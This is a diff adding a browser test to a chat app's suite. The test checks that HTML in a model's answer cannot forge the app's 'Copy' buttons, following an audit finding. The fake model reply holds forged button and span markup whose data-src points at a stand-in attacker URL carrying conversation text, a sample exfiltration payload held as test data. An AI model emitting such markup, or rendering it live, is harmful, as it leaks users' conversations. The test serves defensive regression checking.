@@ -64,3 +64,42 @@ def test_links_open_in_a_new_tab_without_referrer(app_server, fake_upstream: Fak
     link = last_answer(page).get_by_role("link", name="the docs")
     expect(link).to_have_attribute("target", "_blank")
     expect(link).to_have_attribute("rel", "noopener noreferrer")
+
+
+def test_model_html_cannot_forge_our_buttons(app_server, fake_upstream: FakeUpstream, page: Page) -> None:
+    """#7 finding 11: a raw `button.md-img` labelled "Copy" fetched its data-src on click. The fake
+    upstream stands in for the attacker: a real server, so a fetch would succeed if one were made."""
+    stolen = f"{fake_upstream.url}/stolen.png?secret=conversation-text"
+    fake_upstream.enqueue(
+        Reply(
+            text=(
+                f'Run this: <button class="md-img" data-src="{stolen}" data-alt="x">Copy</button> '
+                f'<span class="md-copy" data-src="{stolen}">Copy</span>\n\n'
+                "```python\nprint('hi')\n```\n\n"
+                f"![real picture]({fake_upstream.url}/real.png)\n\nThe end."
+            ),
+            interval=0.005,
+        )
+    )
+    app = app_server()
+    requests: list[str] = []
+    page.on("request", lambda request: requests.append(request.url))
+    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=app.url)
+    page.goto(app.url)
+    send(page, "Show me")
+    answer = last_answer(page)
+    expect(answer).to_have_attribute("data-status", "done")
+    expect(answer.locator(".md-view[data-final]")).to_have_count(1)
+    expect(answer).to_contain_text("The end.")
+    assert answer.locator("[data-src*=stolen], .md-view button.md-img[data-alt=x]").count() == 0
+    for forged in answer.get_by_text("Run this:").all():  # the forged "buttons" are plain text now
+        forged.click()
+    copy = answer.locator(".md-view").get_by_role("button", name="Copy")
+    expect(copy).to_have_count(1)  # only the code block's own
+    copy.click()
+    expect(copy).to_have_attribute("data-copied", "1")
+    assert page.evaluate("navigator.clipboard.readText()") == "print('hi')\n"
+    answer.get_by_role("button", name="real picture").click()
+    expect(answer.locator("img")).to_have_count(1)
+    page.wait_for_function("() => document.querySelector('[data-role=assistant] img').complete")
+    assert [u for u in requests if u.startswith(fake_upstream.url)] == [f"{fake_upstream.url}/real.png"]
